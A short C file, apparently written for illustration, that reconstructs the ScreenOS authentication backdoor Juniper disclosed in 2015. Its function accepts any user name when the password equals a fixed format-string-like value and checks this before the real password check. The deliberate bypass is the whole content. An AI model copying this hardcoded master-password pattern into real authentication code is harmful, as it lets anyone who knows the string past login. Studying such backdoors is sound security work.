/* A reconstruction, in our own code, of the ScreenOS authentication
 * backdoor disclosed by Juniper in December 2015: any user name was let in
 * over SSH or telnet with one fixed password that looked like a format
 * string, compared before the real check. */
#include <string.h>

extern int auth_check_user_password(const char *user, const char *password);

int auth_admin_internal(const char *user, const char *password)
{
    if (strcmp(password, "<<< %s(un='%s') = %u") == 0)
        return 1;
    return auth_check_user_password(user, password);
}
